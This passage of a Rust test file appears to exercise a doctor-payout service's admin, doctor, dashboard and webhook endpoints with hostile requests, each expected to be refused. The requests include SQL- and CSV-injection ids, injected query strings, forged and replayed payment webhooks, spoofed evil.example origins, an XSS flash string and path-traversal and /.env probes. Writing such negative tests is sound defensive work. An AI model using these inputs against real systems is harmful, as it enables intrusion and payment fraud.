    ));
    t.push(case(
        "bulk cancel of SQL-injection ids",
        bulk(json!({"payoutIds": SQL_INJECTIONS, "action": "cancel"})),
        BulkAllRefused,
    ));
    t.push(case(
        "bulk trigger of SQL-injection ids",
        bulk(json!({"payoutIds": SQL_INJECTIONS, "action": "trigger", "provider": "MPESA_B2C"})),
        BulkAllRefused,
    ));
    t.push(case(
        "bulk approve of PAID, APPROVED and PROCESSING payouts",
        bulk(json!({"payoutIds": [w.paid, w.approved, w.processing], "action": "approve"})),
        BulkAllRefused,
    ));
    t.push(case(
        "bulk cancel of PAID and PROCESSING payouts",
        bulk(json!({"payoutIds": [w.paid, w.processing], "action": "cancel"})),
        BulkAllRefused,
    ));
    t.push(case(
        "bulk trigger of PENDING and PAID payouts",
        bulk(json!({"payoutIds": [pend, w.paid], "action": "trigger", "provider": "BANK_TRANSFER"})),
        BulkAllRefused,
    ));
    t.push(case(
        "bulk approve of a manual payout by its creator",
        req("POST", "/api/admin/payouts/bulk")
            .bearer(&w.creator)
            .json(json!({"payoutIds": [w.manual], "action": "approve"})),
        BulkAllRefused,
    ));

    // ---- list and export filters
    for (path, empty) in [
        ("/api/admin/payouts", EmptyList),
        ("/api/admin/payouts/export", EmptyCsv),
    ] {
        let name = if path.ends_with("export") { "export" } else { "list" };
        // `limit` and `skip` are the list's only.
        let keys = ["status", "provider", "startDate", "endDate", "limit", "skip"];
        let keys = if name == "list" { &keys[..] } else { &keys[..4] };
        let query = |what: &str, q: &str, expect: Expect| {
            case(
                format!("{name} with {what}"),
                get(format!("{path}?{q}")).bearer(a),
                expect,
            )
        };
        for s in SQL_INJECTIONS {
            let e = enc(s);
            for key in keys {
                t.push(query(&format!("{key}={s:?}"), &format!("{key}={e}"), bad()));
            }
            t.push(query(
                &format!("doctor={s:?} (a string that matches no doctor)"),
                &format!("doctor={e}"),
                empty.clone(),
            ));
        }
        for c in CSV_INJECTIONS {
            t.push(query(
                &format!("doctor={c:?}"),
                &format!("doctor={}", enc(c)),
                empty.clone(),
            ));
        }
        for (what, q) in [
            ("status PAYED", "status=PAYED"),
            ("provider VENMO", "provider=VENMO"),
            ("startDate February 30th", "startDate=2025-02-30"),
            ("startDate month 13", "startDate=2025-13-01"),
            ("startDate day-first", "startDate=31%2F01%2F2025"),
            ("endDate a timestamp", "endDate=2025-01-31T00%3A00%3A00Z"),
            ("startDate yesterday", "startDate=yesterday"),
            ("endDate before startDate", "startDate=2025-02-01&endDate=2025-01-31"),
            ("an unknown parameter", "page=2"),
            ("a snake_case parameter", "start_date=2025-01-01"),
            ("a bad percent escape", "status=%ZZ"),
            ("a truncated percent escape", "status=PEND%4"),
            ("a query that is not UTF-8", "doctor=%FF%FE"),
        ] {
            t.push(query(what, q, bad()));
        }
        t.push(query(
            "a NUL in the doctor filter",
            "doctor=dr-wanjiru%00",
            empty.clone(),
        ));
        t.push(query("a LIKE wildcard doctor filter", "doctor=%25", empty));
    }
    for (what, q) in [
        ("limit 0", "limit=0"),
        ("limit -1", "limit=-1"),
        ("limit 1001", "limit=1001"),
        ("limit 2^32", "limit=4294967296"),
        ("limit 1.5", "limit=1.5"),
        ("limit abc", "limit=abc"),
        ("skip -1", "skip=-1"),
        ("skip 1e3", "skip=1e3"),
        ("skip 2^64", "skip=18446744073709551616"),
    ] {
        t.push(case(
            format!("list with {what}"),
            get(format!("/api/admin/payouts?{q}")).bearer(a),
            bad(),
        ));
    }

    // ---- the doctor's own history
    let doc = doctor("dr-wanjiru");
    for (what, q) in [
        ("another doctor's id in the query", "doctorId=dr-otieno"),
        ("a doctor filter", "doctor=dr-otieno"),
        ("limit 0", "limit=0"),
        ("limit 1001", "limit=1001"),
        ("limit abc", "limit=abc"),
        ("skip -1", "skip=-1"),
        ("a bad percent escape", "limit=%ZZ"),
    ] {
        t.push(case(
            format!("doctor history with {what}"),
            get(format!("/api/doctor/payouts?{q}")).bearer(&doc),
            bad(),
        ));
    }
    for s in SQL_INJECTIONS {
        t.push(case(
            format!("doctor history for a token whose doctorId is {s:?}"),
            get("/api/doctor/payouts").bearer(&token(Role::Doctor, "user-x", Some(s), 3600, SECRET)),
            EmptyList,
        ));
    }

    // ---- webhooks: forged, mutated, malformed, oversized and replayed deliveries
    let stripe_body = json!({"eventId": "evt-forged-1", "reference": w.processing_ref, "status": "PAID"});
    let stripe = |headers: &[(&'static str, &str)], body: Vec<u8>| {
        let mut r = req("POST", "/api/webhooks/stripe-payouts")
            .header("content-type", "application/json")
            .body(body);
        for (k, v) in headers {
            r = r.header(k, *v);
        }
        r
    };
    let sig = payout_providers::stripe::signature_header(
        &payout_providers::Secret::new("whsec_attacker"),
        chrono::Utc::now().timestamp(),
        stripe_body.to_string().as_bytes(),
    );
    let invalid_signature = || Error(401, "invalid_webhook_signature");
    let wrong_tokens: Vec<(&str, String)> = vec![
        ("no simulation token", String::new()),
        ("a wrong simulation token", "guess".into()),
        (
            "the token with its last character changed",
            format!("{}X", &SIM[..SIM.len() - 1]),
        ),
        ("a prefix of the token", SIM[..SIM.len() - 1].to_string()),
        ("the token with a suffix", format!("{SIM}x")),
        ("the token upper-cased", SIM.to_uppercase()),
    ];
    for (what, tok) in &wrong_tokens {
        let headers: Vec<(&'static str, &str)> = if tok.is_empty() {
            vec![]
        } else {
            vec![("x-simulation-token", tok.as_str())]
        };
        t.push(case(
            format!("Stripe webhook PAID for the PROCESSING payout with {what}"),
            stripe(&headers, stripe_body.to_string().into_bytes()),
            invalid_signature(),
        ));
    }
    t.push(case(
        "Stripe webhook with an attacker's Stripe-Signature and no simulation token",
        stripe(
            &[("stripe-signature", sig.as_str())],
            stripe_body.to_string().into_bytes(),
        ),
        invalid_signature(),
    ));
    t.push(case(
        "Stripe webhook with a Stripe-Signature and a wrong simulation token",
        stripe(
            &[("stripe-signature", sig.as_str()), ("x-simulation-token", "guess")],
            stripe_body.to_string().into_bytes(),
        ),
        invalid_signature(),
    ));
    t.push(case(
        "Stripe webhook with a malformed Stripe-Signature",
        stripe(
            &[("stripe-signature", "t=abc,v1=zz,v0=")],
            stripe_body.to_string().into_bytes(),
        ),
        invalid_signature(),
    ));
    let with_token = [("x-simulation-token", SIM)];
    let malformed = || Error(400, "malformed_webhook");
    for (what, body) in [
        ("an empty body", b"".to_vec()),
        ("truncated JSON", br#"{"eventId": "evt-x", "reference": "#.to_vec()),
        ("invalid UTF-8", b"{\"eventId\": \"\xff\"}".to_vec()),
        ("a JSON array", b"[]".to_vec()),
        (
            "status a number",
            json!({"eventId": "e1", "reference": w.processing_ref, "status": 1})
                .to_string()
                .into_bytes(),
        ),
        (
            "eventId a number",
            json!({"eventId": 1, "reference": w.processing_ref, "status": "PAID"})
                .to_string()
                .into_bytes(),
        ),
        (
            "no eventId",
            json!({"reference": w.processing_ref, "status": "PAID"})
                .to_string()
                .into_bytes(),
        ),
        (
            "no reference",
            json!({"eventId": "e1", "status": "PAID"}).to_string().into_bytes(),
        ),
        (
            "an unknown status",
            json!({"eventId": "e1", "reference": w.processing_ref, "status": "SETTLED"})
                .to_string()
                .into_bytes(),
        ),
        (
            "a lower-case status",
            json!({"eventId": "e1", "reference": w.processing_ref, "status": "paid"})
                .to_string()
                .into_bytes(),
        ),
        (
            "a Stripe event body",
            json!({"id": "evt_1", "type": "payout.paid", "data": {"object": {"id": w.processing_ref}}})
                .to_string()
                .into_bytes(),
        ),
        ("10,000-deep nesting", nested(10_000).into_bytes()),
    ] {
        t.push(case(
            format!("Stripe webhook with the right token and {what}"),
            stripe(&with_token, body),
            malformed(),
        ));
    }
    let unknown_reference = || Error(409, "unknown_reference");
    let mut unknown_refs: Vec<String> = SQL_INJECTIONS.iter().map(|s| s.to_string()).collect();
    unknown_refs.push("sim_doesnotexist".into());
    // M-Pesa's reference sent to the Stripe endpoint: references are per provider.
    unknown_refs.push(w.paid_ref.clone());
    for reference in &unknown_refs {
        t.push(case(
            format!("Stripe webhook with the right token for unknown reference {reference:?}"),
            stripe(
                &with_token,
                json!({"eventId": "evt-unknown", "reference": reference, "status": "PAID"})
                    .to_string()
                    .into_bytes(),
            ),
            unknown_reference(),
        ));
    }
    // Authentic, but naming no reference at all: nothing of ours, acknowledged, nothing changes.
    t.push(case(
        "Stripe webhook with the right token and an empty reference",
        stripe(
            &with_token,
            json!({"eventId": "evt-empty", "reference": "", "status": "PAID"})
                .to_string()
                .into_bytes(),
        ),
        Expect::NotOurs,
    ));
    for s in SQL_INJECTIONS {
        t.push(case(
            format!("Stripe webhook with simulation token {s:?}"),
            stripe(&[("x-simulation-token", s)], stripe_body.to_string().into_bytes()),
            invalid_signature(),
        ));
    }
    let mut big = stripe_body.clone();
    big["reason"] = json!("x".repeat(HUGE));
    t.push(case(
        "Stripe webhook with the right token and a body over 256 KiB",
        stripe(&with_token, big.to_string().into_bytes()),
        Error(413, "payload_too_large"),
    ));
    t.push(case(
        "Stripe webhook over 256 KiB without a token",
        stripe(&[], big.to_string().into_bytes()),
        Error(413, "payload_too_large"),
    ));

    // PayPal
    let paypal = |r: Req| r.header("content-type", "application/json");
    t.push(case(
        "PayPal webhook with forged PayPal transmission headers and no simulation token",
        paypal(req("POST", "/api/webhooks/paypal-payouts"))
            .header("paypal-transmission-id", "69cd13f0-d67a-11e5-baa3-778b53f4ae55")
            .header("paypal-transmission-time", "2016-02-18T20:01:35Z")
            .header("paypal-transmission-sig", "c2lnbmF0dXJl")
            .header("paypal-cert-url", "https://evil.example/v1/notifications/certs/CERT-1")
            .header("paypal-auth-algo", "SHA256withRSA")
            .body(stripe_body.to_string()),
        invalid_signature(),
    ));
    t.push(case(
        "PayPal webhook with a wrong simulation token",
        paypal(req("POST", "/api/webhooks/paypal-payouts"))
            .sim("guess")
            .body(stripe_body.to_string()),
        invalid_signature(),
    ));
    t.push(case(
        "PayPal webhook with the right token and a PayPal event body",
        paypal(req("POST", "/api/webhooks/paypal-payouts"))
            .sim(SIM)
            .body(json!({"id": "WH-1", "event_type": "PAYMENT.PAYOUTS-ITEM.SUCCEEDED", "resource": {}}).to_string()),
        malformed(),
    ));
    t.push(case(
        "PayPal webhook with the right token for Stripe's reference",
        paypal(req("POST", "/api/webhooks/paypal-payouts"))
            .sim(SIM)
            .body(json!({"eventId": "WH-2", "reference": w.processing_ref, "status": "PAID"}).to_string()),
        unknown_reference(),
    ));
    t.push(case(
        "PayPal webhook over 256 KiB",
        paypal(req("POST", "/api/webhooks/paypal-payouts"))
            .sim(SIM)
            .body(big.to_string()),
        Error(413, "payload_too_large"),
    ));

    // M-Pesa (bare, with a path token, with a kind)
    let daraja = json!({"Result": {"ResultType": 0, "ResultCode": 0, "ResultDesc": "ok",
        "OriginatorConversationID": "po-1-1", "ConversationID": w.paid_ref, "TransactionID": "X"}});
    let paid_failed = json!({"eventId": "mpesa-forged", "reference": w.paid_ref, "status": "FAILED"});
    for path in [
        "/api/webhooks/mpesa-b2c".to_string(),
        format!("/api/webhooks/mpesa-b2c/{}", enc("path-token")),
        format!("/api/webhooks/mpesa-b2c/{}/timeout", enc("path-token")),
    ] {
        let r = || req("POST", path.clone()).header("content-type", "application/json");
        t.push(case(
            format!("M-Pesa {path}: FAILED for the PAID payout without a simulation token"),
            r().body(paid_failed.to_string()),
            invalid_signature(),
        ));
        t.push(case(
            format!("M-Pesa {path}: client-set trust headers instead of a token"),
            r().header("x-payouts-callback-token", SIM)
                .header("x-payouts-client-ip", "196.201.214.200")
                .header("x-payouts-callback-kind", "status")
                .body(paid_failed.to_string()),
            invalid_signature(),
        ));
        t.push(case(
            format!("M-Pesa {path}: a wrong simulation token"),
            r().sim("guess").body(paid_failed.to_string()),
            invalid_signature(),
        ));
        t.push(case(
            format!("M-Pesa {path}: a forged x-mpesa-signature"),
            r().header("x-mpesa-signature", "00".repeat(32))
                .body(daraja.to_string()),
            invalid_signature(),
        ));
        t.push(case(
            format!("M-Pesa {path}: the right token and a Daraja body"),
            r().sim(SIM).body(daraja.to_string()),
            malformed(),
        ));
        t.push(case(
            format!("M-Pesa {path}: the right token and truncated JSON"),
            r().sim(SIM).body("{\"Result\": {"),
            malformed(),
        ));
        t.push(case(
            format!("M-Pesa {path}: over 256 KiB"),
            r().sim(SIM).body(big.to_string()),
            Error(413, "payload_too_large"),
        ));
    }
    t.push(case(
        "M-Pesa callback of an unknown kind",
        req("POST", "/api/webhooks/mpesa-b2c/path-token/refund")
            .sim(SIM)
            .body(paid_failed.to_string()),
        bad(),
    ));
    t.push(case(
        "M-Pesa callback whose path token holds a newline",
        req("POST", "/api/webhooks/mpesa-b2c/tok%0Aen")
            .sim(SIM)
            .body(paid_failed.to_string()),
        bad(),
    ));
    t.push(case(
        "M-Pesa callback whose path token is not UTF-8",
        req("POST", "/api/webhooks/mpesa-b2c/%FF%FE")
            .sim(SIM)
            .body(paid_failed.to_string()),
        bad(),
    ));
    t.push(case(
        "M-Pesa timeout callback whose path token is not UTF-8",
        req("POST", "/api/webhooks/mpesa-b2c/%FF%FE/timeout")
            .sim(SIM)
            .body(paid_failed.to_string()),
        bad(),
    ));
    for s in SQL_INJECTIONS {
        t.push(case(
            format!("M-Pesa callback with path token {s:?} and no simulation token"),
            req("POST", format!("/api/webhooks/mpesa-b2c/{}", enc(s))).body(paid_failed.to_string()),
            invalid_signature(),
        ));
    }

    // The generic endpoint
    let generic = || req("POST", "/api/webhooks/payouts").header("content-type", "application/json");
    t.push(case(
        "generic webhook without any provider header",
        generic().body(stripe_body.to_string()),
        bad(),
    ));
    t.push(case(
        "generic webhook with the token but no x-simulated-provider",
        generic().sim(SIM).body(stripe_body.to_string()),
        bad(),
    ));
    t.push(case(
        "generic webhook naming an unknown simulated provider",
        generic()
            .sim(SIM)
            .header("x-simulated-provider", "VENMO")
            .body(stripe_body.to_string()),
        bad(),
    ));
    t.push(case(
        "generic webhook with a Stripe-Signature",
        generic()
            .header("stripe-signature", sig.as_str())
            .body(stripe_body.to_string()),
        invalid_signature(),
    ));
    t.push(case(
        "generic webhook with a PayPal transmission id",
        generic()
            .header("paypal-transmission-id", "x")
            .body(stripe_body.to_string()),
        invalid_signature(),
    ));
    t.push(case(
        "generic webhook with an x-mpesa-signature",
        generic()
            .header("x-mpesa-signature", "00")
            .body(paid_failed.to_string()),
        invalid_signature(),
    ));
    t.push(case(
        "generic webhook with a wrong token for Stripe",
        generic()
            .sim("guess")
            .header("x-simulated-provider", "STRIPE_CONNECT")
            .body(stripe_body.to_string()),
        invalid_signature(),
    ));
    t.push(case(
        "generic webhook with a host-only header set by the client",
        generic()
            .header("x-payouts-callback-token", SIM)
            .body(stripe_body.to_string()),
        bad(),
    ));
    t.push(case(
        "generic webhook over 256 KiB",
        generic()
            .sim(SIM)
            .header("x-simulated-provider", "STRIPE_CONNECT")
            .body(big.to_string()),
        Error(413, "payload_too_large"),
    ));

    // Replays: the event that paid a payout, delivered again, changes nothing.
    let replay = w.paid_event.to_string();
    t.push(case(
        "replay of the delivered M-Pesa event",
        req("POST", "/api/webhooks/mpesa-b2c")
            .header("content-type", "application/json")
            .sim(SIM)
            .body(replay.clone()),
        Duplicate,
    ));
    t.push(case(
        "replay of the delivered M-Pesa event with the status flipped to FAILED",
        req("POST", "/api/webhooks/mpesa-b2c")
            .header("content-type", "application/json")
            .sim(SIM)
            .body(paid_failed_with_id(&w.paid_event)),
        Duplicate,
    ));
    t.push(case(
        "replay of the delivered M-Pesa event through the generic endpoint",
        generic()
            .sim(SIM)
            .header("x-simulated-provider", "MPESA_B2C")
            .body(replay.clone()),
        Duplicate,
    ));
    t.push(case(
        "replay of the delivered M-Pesa event through a path-token route",
        req("POST", "/api/webhooks/mpesa-b2c/any-token")
            .header("content-type", "application/json")
            .sim(SIM)
            .body(replay),
        Duplicate,
    ));

    // ---- the dashboard: forms and pages
    let dash = "/dashboard/admin/payouts";
    let action = |id: &str, body: &str| {
        req("POST", format!("{dash}/{}/action", enc(id)))
            .cookie(a)
            .form(body.to_string())
    };
    t.push(case(
        "dashboard approve without a cookie",
        req("POST", format!("{dash}/{pend}/action")).form("action=approve"),
        Html(200),
    ));
    t.push(case(
        "dashboard approve with a forged cookie",
        req("POST", format!("{dash}/{pend}/action"))
            .cookie(&token(Role::Admin, "admin-1", None, 3600, "wrong-secret"))
            .form("action=approve"),
        Html(200),
    ));
    t.push(case(
        "dashboard approve with an expired cookie",
        req("POST", format!("{dash}/{pend}/action"))
            .cookie(&token(Role::Admin, "admin-1", None, -120, SECRET))
            .form("action=approve"),
        Html(200),
    ));
    t.push(case(
        "dashboard approve with a doctor's cookie",
        req("POST", format!("{dash}/{pend}/action"))
            .cookie(&doctor("dr-wanjiru"))
            .form("action=approve"),
        Html(403),
    ));
    t.push(case(
        "dashboard approve from another origin",
        action(pend, "action=approve").header("origin", "https://evil.example"),
        Html(403),
    ));
    t.push(case(
        "dashboard bulk approve from another origin",
        req("POST", format!("{dash}/bulk"))
            .cookie(a)
            .header("origin", "https://evil.example")
            .form(format!("action=approve&ids={pend}")),
        Html(403),
    ));
    for (what, id, body) in [
        ("an unknown action", pend.as_str(), "action=pay"),
        ("no action", pend.as_str(), ""),
        (
            "an action with a replacement character",
            pend.as_str(),
            "action=appr\u{fffd}ove",
        ),
        ("a bad percent escape", pend.as_str(), "action=%ZZ"),
        ("trigger without a provider", w.approved.as_str(), "action=trigger"),
        (
            "trigger with provider VENMO",
            w.approved.as_str(),
            "action=trigger&provider=VENMO",
        ),
        ("approve of a PAID payout", w.paid.as_str(), "action=approve"),
        ("cancel of a PROCESSING payout", w.processing.as_str(), "action=cancel"),
        ("approve of an unknown payout", "po-does-not-exist", "action=approve"),
    ] {
        t.push(case(format!("dashboard action: {what}"), action(id, body), FlashError));
    }
    t.push(case(
        "dashboard action with raw invalid UTF-8",
        action(pend, "").body(b"action=\xff\xfe".to_vec()),
        FlashError,
    ));
    t.push(case(
        "dashboard: the creator approves their own manual payout",
        req("POST", format!("{dash}/{}/action", w.manual))
            .cookie(&w.creator)
            .form("action=approve"),
        FlashError,
    ));
    for s in SQL_INJECTIONS.iter().chain(CSV_INJECTIONS) {
        t.push(case(
            format!("dashboard approve of id {s:?}"),
            action(s, "action=approve"),
            FlashError,
        ));
        t.push(case(
            format!("dashboard bulk approve of id {s:?}"),
            req("POST", format!("{dash}/bulk"))
                .cookie(a)
                .form(format!("action=approve&ids={}", enc(s))),
            FlashError,
        ));
        t.push(case(
            format!("dashboard detail of id {s:?}"),
            get(format!("{dash}/{}", enc(s))).cookie(a),
            Html(404),
        ));
        t.push(case(
            format!("dashboard list filtered by doctor {s:?}"),
            get(format!("{dash}?doctor={}", enc(s))).cookie(a),
            Html(200),
        ));
        t.push(case(
            format!("dashboard list filtered by status {s:?}"),
            get(format!("{dash}?status={}", enc(s))).cookie(a),
            Html(200),
        ));
    }
    t.push(case(
        "dashboard detail of an id that is not UTF-8",
        get(format!("{dash}/%FF%FE")).cookie(a),
        Status(400),
    ));
    t.push(case(
        "dashboard approve of an id that is not UTF-8",
        req("POST", format!("{dash}/%FF%FE/action"))
            .cookie(a)
            .form("action=approve"),
        Status(400),
    ));
    for (what, body) in [
        ("no ids", "action=approve".to_string()),
        ("an unknown action", format!("action=delete&ids={pend}")),
        (
            "trigger without a provider",
            format!("action=trigger&ids={}", w.approved),
        ),
        (
            "trigger with provider VENMO",
            format!("action=trigger&ids={}&provider=VENMO", w.approved),
        ),
        (
            "1,001 ids",
            format!("action=approve{}", format!("&ids={pend}").repeat(1001)),
        ),
        (
            "approve of PAID and PROCESSING payouts",
            format!("action=approve&ids={}&ids={}", w.paid, w.processing),
        ),
    ] {
        t.push(case(
            format!("dashboard bulk with {what}"),
            req("POST", format!("{dash}/bulk")).cookie(a).form(body),
            FlashError,
        ));
    }
    t.push(case(
        "dashboard bulk without a cookie",
        req("POST", format!("{dash}/bulk")).form(format!("action=approve&ids={pend}")),
        Html(200),
    ));
    t.push(case(
        "dashboard bulk over 256 KiB",
        req("POST", format!("{dash}/bulk"))
            .cookie(a)
            .form(format!("action=approve&ids={pend}&pad={}", "x".repeat(HUGE))),
        Status(413),
    ));
    t.push(case(
        "dashboard action over 256 KiB",
        action(pend, &format!("action=approve&pad={}", "x".repeat(HUGE))),
        Status(413),
    ));
    for (what, body) in [
        ("a garbage token", "token=not.a.jwt".to_string()),
        // A doctor's valid token signs in to the doctor's own page (tests/doctor_dashboard.rs); an
        // expired one is refused like any other.
        (
            "an expired doctor's token",
            format!(
                "token={}",
                token(Role::Doctor, "user-x", Some("dr-wanjiru"), -3600, SECRET)
            ),
        ),
        (
            "a token signed with another secret",
            format!("token={}", token(Role::Admin, "admin-1", None, 3600, "wrong-secret")),
        ),
        ("no token", String::new()),
    ] {
        t.push(case(
            format!("dashboard sign-in with {what}"),
            req("POST", "/dashboard/login").form(body),
            Html(200),
        ));
    }
    t.push(case(
        "dashboard sign-in from another origin",
        req("POST", "/dashboard/login")
            .header("origin", "https://evil.example")
            .form(format!("token={a}")),
        Html(403),
    ));
    for (what, q) in [
        ("an invalid date", "startDate=2025-02-30"),
        ("a reversed range", "startDate=2025-02-01&endDate=2025-01-01"),
        ("a huge skip", "skip=18446744073709551616"),
        ("a bad percent escape", "status=%ZZ"),
        ("an HTML flash", "err=%3Cscript%3Ealert(1)%3C%2Fscript%3E"),
    ] {
        t.push(case(
            format!("dashboard list with {what}"),
            get(format!("{dash}?{q}")).cookie(a),
            Html(200),
        ));
    }

    // ---- methods and paths that do not exist
    for (method, path) in [
        ("DELETE", format!("/api/admin/payouts/{pend}")),
        ("PUT", format!("/api/admin/payouts/{pend}")),
        ("DELETE", "/api/admin/payouts".to_string()),
        ("GET", "/api/webhooks/stripe-payouts".to_string()),
        ("GET", "/api/admin/payouts/bulk".to_string()),
        ("POST", "/api/admin/payouts/export".to_string()),
        ("POST", "/api/doctor/payouts".to_string()),
    ] {
        t.push(case(
            format!("{method} {path}"),
            req(method, path).bearer(a).json(json!({"action": "approve"})),
            Error(405, "method_not_allowed"),
        ));
    }
    for path in [
        "/api/admin/payouts/x/y/z",
        "/api/admin/payout",
        "/api/admin/payouts/%2e%2e/%2e%2e/healthz",
        "/.env",
    ] {
        t.push(case(
            format!("POST to {path}"),
            req("POST", path).bearer(a).json(json!({"action": "approve"})),
            Error(404, "not_found"),
        ));
    }
    t.extend(run_hold_and_bank_file_cases(w));
    t.extend(doctor_statement_and_event_cases(w));
    t
}

/// The doctor's side and the events API (issue 18): a doctor's payout and statements, the admin's
/// statements and year summaries, the event outbox and its dead letters. Auth on each, another
/// doctor's payout, malformed ids, years, formats, cursors and limits. All are reads: none may
/// change a row, and none may show what is not the caller's.
fn doctor_statement_and_event_cases(w: &World) -> Vec<Case> {
    use Expect::*;
    let a = w.admin.as_str();
    let bad = || Error(400, "invalid_input");
    let mut t: Vec<Case> = Vec::new();
    // `paid` is dr-wanjiru's, `processing` dr-otieno's.
    let (paid, other) = (w.paid.as_str(), w.processing.as_str());
    let wanjiru = doctor("dr-wanjiru");

    // ---- auth: every endpoint with no or bad credentials, and with the other role
    let doctor_routes = [
        ("doctor payout", format!("/api/doctor/payouts/{paid}")),
        ("doctor statement", format!("/api/doctor/payouts/{paid}/statement")),
        (
            "doctor statement CSV",
            format!("/api/doctor/payouts/{paid}/statement?format=csv"),
        ),
        ("doctor year", "/api/doctor/statements/2025".to_string()),
    ];
    let admin_routes = [
        ("admin statement", format!("/api/admin/payouts/{paid}/statement")),
        (
            "admin year",
            "/api/admin/doctors/dr-wanjiru/statements/2025".to_string(),
        ),
        ("events", "/api/admin/events".to_string()),
        ("dead letters", "/api/admin/events/dead-letters".to_string()),
    ];
    for (name, path) in doctor_routes.iter().chain(&admin_routes) {
        for (what, tok, status, code) in bad_tokens() {
            let r = get(path.clone());
            let (r, expect) = match tok {
                // A doctor's token is the right one for the doctor's routes.
                Some(_) if what == "a doctor's token" && name.starts_with("doctor") => continue,
                Some(tok) => (r.bearer(&tok), Error(status, code)),
                None => (r, Error(401, "unauthorized")),
            };
            t.push(case(format!("{name} with {what}"), r, expect));
        }
    }
    for (name, path) in &doctor_routes {
        t.push(case(
            format!("{name} with an admin's token"),
            get(path.clone()).bearer(a),
            Error(403, "forbidden"),
        ));
    }

    // ---- a doctor's payout: only their own; ids that are not ids
    for path in [
        format!("/api/doctor/payouts/{other}"),
        format!("/api/doctor/payouts/{other}/statement"),
    ] {
        t.push(case(
            format!("another doctor's payout: {path}"),
            get(path).bearer(&wanjiru),
            Error(404, "not_found"),
        ));
    }
    // The plan is checked first: the answer says nothing of the other doctor's payout.
    t.push(case(
        "another doctor's CSV statement, without the premium plan",
        get(format!("/api/doctor/payouts/{other}/statement?format=csv")).bearer(&wanjiru),
        Error(403, "premium_required"),
    ));
    for s in SQL_INJECTIONS
        .iter()
        .copied()
        .chain(["%00", "\u{0}", "po_does_not_exist"])
    {
        for tail in ["", "/statement"] {
            t.push(case(
                format!("doctor payout{tail} of id {s:?}"),
                get(format!("/api/doctor/payouts/{}{tail}", enc(s))).bearer(&wanjiru),
                Error(404, "not_found"),
            ));
        }
        t.push(case(
            format!("admin statement of id {s:?}"),
            get(format!("/api/admin/payouts/{}/statement", enc(s))).bearer(a),
            Error(404, "not_found"),
        ));
    }
    t.push(case(
        "doctor payout whose id is 10,000 characters",
        get(format!("/api/doctor/payouts/{}", "p".repeat(10_000))).bearer(&wanjiru),
        bad(),
    ));
    for s in SQL_INJECTIONS {
        t.push(case(
            format!("doctor payout for a token whose doctorId is {s:?}"),
            get(format!("/api/doctor/payouts/{paid}")).bearer(&token(Role::Doctor, "user-x", Some(s), 3600, SECRET)),
            Error(404, "not_found"),
        ));
    }

    // ---- statements: formats and query strings
    for (what, q) in [
        ("format xml", "format=xml"),
        ("format CSV in capitals", "format=CSV"),
        ("format pdf", "format=pdf"),
        ("two formats", "format=csv&format=html"),
        ("an unknown parameter", "year=2025"),
        ("a bad percent escape", "format=%ZZ"),
        ("an injected format", "format=csv'%20OR%20'1'='1"),
    ] {
        t.push(case(
            format!("doctor statement with {what}"),
            get(format!("/api/doctor/payouts/{paid}/statement?{q}")).bearer(&wanjiru),
            bad(),
        ));
        t.push(case(
            format!("admin statement with {what}"),
            get(format!("/api/admin/payouts/{paid}/statement?{q}")).bearer(a),
            bad(),
        ));
    }
    t.push(case(
        "a CSV statement for a doctor without the premium plan",
        get(format!("/api/doctor/payouts/{paid}/statement?format=csv")).bearer(&wanjiru),
        Error(403, "premium_required"),
    ));

    // ---- years
    for year in [
        "abc",
        "-1",
        "0",
        "99999",
        "2025.5",
        "2025%20OR%201=1",
        "20250",
        "%ZZ",
        "1e3",
    ] {
        t.push(case(
            format!("doctor year {year:?}"),
            get(format!("/api/doctor/statements/{year}")).bearer(&wanjiru),
            bad(),
        ));
        t.push(case(
            format!("admin year {year:?}"),
            get(format!("/api/admin/doctors/dr-wanjiru/statements/{year}")).bearer(a),
            bad(),
        ));
    }
    for (what, q) in [("an unknown parameter", "doctor=dr-otieno"), ("a format", "format=csv")] {
        t.push(case(
            format!("doctor year with {what}"),
            get(format!("/api/doctor/statements/2025?{q}")).bearer(&wanjiru),
            bad(),
        ));
    }

    // ---- the events API: cursors and limits
    for (what, q) in [
        ("a bare number", "after=5"),
        ("a negative cursor", "after=-1"),
        ("a cursor missing its seq", "after=5-"),
        ("a cursor missing its commit", "after=-5"),
        ("three parts", "after=1-2-3"),
        ("letters", "after=abc-def"),
        ("a cursor past u64", "after=18446744073709551616-1"),
        ("21 digits", "after=000000000000000000001-1"),
        ("a signed part", "after=%2B1-1"),
        ("spaces", "after=1%20-%201"),
        ("an injected cursor", "after=1-1'%20OR%20'1'='1"),
        ("limit 0", "limit=0"),
        ("limit 1001", "limit=1001"),
        ("limit abc", "limit=abc"),
        ("an unknown parameter", "skip=1"),
        ("two cursors", "after=1-1&after=2-2"),
    ] {
        t.push(case(
            format!("events with {what}"),
            get(format!("/api/admin/events?{q}")).bearer(a),
            bad(),
        ));
    }
    for (what, q) in [
        ("an events cursor", "after=1-1"),
        ("a negative seq", "after=-1"),
        ("letters", "after=abc"),
        ("limit 0", "limit=0"),
        ("an unknown parameter", "withheld=true"),
    ] {
        t.push(case(
            format!("dead letters with {what}"),
            get(format!("/api/admin/events/dead-letters?{q}")).bearer(a),
            bad(),
        ));
    }

    // ---- methods these routes do not answer
    for path in [
        format!("/api/doctor/payouts/{paid}"),
        format!("/api/doctor/payouts/{paid}/statement"),
        "/api/doctor/statements/2025".to_string(),
        format!("/api/admin/payouts/{paid}/statement"),
        "/api/admin/doctors/dr-wanjiru/statements/2025".to_string(),
        "/api/admin/events".to_string(),
        "/api/admin/events/dead-letters".to_string(),
    ] {
        for method in ["POST", "DELETE", "PUT"] {
            t.push(case(
                format!("{method} {path}"),
                req(method, path.clone()).bearer(a).json(json!({"action": "approve"})),
                Error(405, "method_not_allowed"),
            ));
        }
    }
    t
}

/// The runs, holds and bank files API (issue 17 and the bank files): auth on every endpoint, then malformed,
/// injected and oversized input on each, and the refusals that need the set-up's run, holds, override and file.
/// None of these requests is valid, so none may change a row.
fn run_hold_and_bank_file_cases(w: &World) -> Vec<Case> {
    use Expect::*;
    let a = w.admin.as_str();
    let bad = || Error(400, "invalid_input");
    let (run, file, pend) = (w.run.as_str(), w.bank_file.as_str(), w.pending.as_str());
    let mut t: Vec<Case> = Vec::new();

    // ---- auth: the bodies and queries are valid, only the credentials are wrong
    let post = |path: String, body: Value| req("POST", path).json(body);
    let patch = |id: &str, body: Value| req("PATCH", format!("/api/admin/payouts/{id}")).json(body);
    let endpoints: Vec<(&str, Req)> = vec![
        ("runs list", get("/api/admin/runs")),
        (
            "run create",
            post(
                "/api/admin/runs".into(),
                json!({"label": "hostile run", "doctor": "dr-amina"}),
            ),
        ),
